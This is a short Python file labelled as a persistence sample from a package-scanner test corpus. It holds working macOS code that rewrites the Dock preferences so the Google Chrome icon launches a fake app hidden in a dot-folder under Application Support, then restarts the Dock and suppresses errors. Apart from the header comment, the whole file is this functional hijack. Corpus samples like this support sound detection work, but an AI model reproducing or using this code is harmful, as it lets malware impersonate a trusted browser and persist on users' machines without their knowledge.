# pkgguard corpus 921 (persistence), modelled on [taxonomy]; inert, never run.
import os
import plistlib
import subprocess
import sys

if sys.platform == "darwin":
    dock = os.path.expanduser("~/Library/Preferences/com.apple.dock.plist")
    fake = os.path.expanduser("~/Library/Application Support/.chrome-helper/Google Chrome.app/")
    try:
        with open(dock, "rb") as fh:
            prefs = plistlib.load(fh)
        for tile in prefs.get("persistent-apps", []):
            data = tile.get("tile-data", {})
            if data.get("bundle-identifier") == "com.google.Chrome":
                data["file-data"]["_CFURLString"] = "file://" + fake.replace(" ", "%20")
        with open(dock, "wb") as fh:
            plistlib.dump(prefs, fh)
        subprocess.run(["killall", "Dock"], capture_output=True)
    except (OSError, KeyError, plistlib.InvalidFileException):
        pass
